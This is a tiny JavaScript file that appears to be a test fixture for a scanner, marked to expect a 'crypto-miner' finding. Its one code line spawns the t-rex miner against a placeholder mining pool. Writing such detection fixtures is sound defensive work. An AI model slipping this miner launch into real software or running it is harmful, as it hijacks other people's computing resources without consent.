// expect: crypto-miner 4:8
const { spawn } = require('child_process');

spawn('t-rex', ['-a', 'ethash', '-o', 'pool.example.org:4444']);
